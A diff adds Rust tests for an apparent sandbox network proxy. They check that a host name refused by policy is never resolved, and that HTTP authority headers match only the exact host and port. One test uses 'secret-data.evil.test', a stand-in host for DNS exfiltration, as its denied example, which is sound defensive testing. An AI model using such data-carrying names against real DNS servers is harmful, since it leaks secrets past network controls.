@@ -859,3 +859,89 @@ async fn a_first_message_that_is_too_slow_or_too_long_is_refused() {
         assert!(codes.contains(&code.into()), "{code} in {codes:?}");
     }
 }
+
+/// Counts its lookups; answers 127.0.0.1.
+#[derive(Default)]
+struct Counting(std::sync::atomic::AtomicUsize);
+
+impl Resolver for Counting {
+    fn resolve<'a>(&'a self, _: &'a str, _: u16) -> super::resolve::Lookup<'a> {
+        self.0.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+        Box::pin(async move { Ok(vec![LOOPBACK]) })
+    }
+}
+
+#[tokio::test]
+async fn a_name_the_policy_refuses_is_never_looked_up() {
+    let (port, _) = web_server().await;
+    let resolver = Arc::new(Counting::default());
+    let sink = Arc::new(MemorySink::default());
+    let engine = Arc::new(Engine {
+        resolver: resolver.clone(),
+        sink: sink.clone(),
+        own_listeners: Vec::new(),
+        limits: Limits::default(),
+    });
+    let policy = Policy {
+        allow: vec!["web.test".parse().unwrap(), "127.0.0.0/8".parse().unwrap()],
+        deny: Vec::new(),
+    };
+    let ctx = Arc::new(context(Effective::combine([(
+        Layer::Profile,
+        &Mode::Policy(policy),
+    )])));
+    let lookups = || resolver.0.load(std::sync::atomic::Ordering::SeqCst);
+    // Denied: a name carrying data out (a lookup would reach the name's DNS server).
+    let (mut ours, theirs) = tokio::net::UnixStream::pair().unwrap();
+    let (e, c) = (engine.clone(), ctx.clone());
+    tokio::spawn(async move { e.serve_tcp(c, theirs, "secret-data.evil.test", port).await });
+    let mut got = Vec::new();
+    ours.read_to_end(&mut got).await.unwrap();
+    assert_denied(
+        &sink.find("secret-data.evil.test", port).await,
+        "not_allowed",
+    );
+    assert_eq!(lookups(), 0);
+    // Control: the allowed name is looked up.
+    let (mut ours, theirs) = tokio::net::UnixStream::pair().unwrap();
+    tokio::spawn(async move { engine.serve_tcp(ctx, theirs, "web.test", port).await });
+    ours.write_all(b"GET / HTTP/1.1\r\nHost: web.test\r\n\r\n")
+        .await
+        .unwrap();
+    let mut answer = String::new();
+    ours.read_to_string(&mut answer).await.unwrap();
+    assert!(answer.ends_with("hello"), "{answer}");
+    assert_eq!(lookups(), 1);
+}
+
+#[test]
+fn an_authority_names_the_target_only_with_the_same_host_and_port() {
+    use super::authority_matches;
+    use sandbox::network::Host;
+    let web = Host::parse("web.test").unwrap();
+    let v6 = Host::parse("::1").unwrap();
+    assert!(authority_matches(b"web.test:8080", &web, 8080, Some(80)));
+    assert!(authority_matches(b"WEB.test.:8080", &web, 8080, Some(80)));
+    assert!(authority_matches(b"web.test", &web, 80, Some(80)));
+    assert!(
+        authority_matches(b"web.test", &web, 8080, None),
+        "a tunnel's port is fixed"
+    );
+    assert!(authority_matches(b"[::1]:443", &v6, 443, None));
+    for (value, port) in [
+        (&b"web.test"[..], 8080),
+        (b"web.test:8081", 8080),
+        (b"other.test:8080", 8080),
+        (b"user@web.test:8080", 8080),
+        (b"web.test:8080/x", 8080),
+        (b"\xffweb.test", 8080),
+        (b"", 8080),
+    ] {
+        let text = String::from_utf8_lossy(value);
+        assert!(
+            !authority_matches(value, &web, port, Some(80)),
+            "{text}:{port}"
+        );
+    }
+    assert!(!authority_matches(b"[::2]:443", &v6, 443, None));
+}
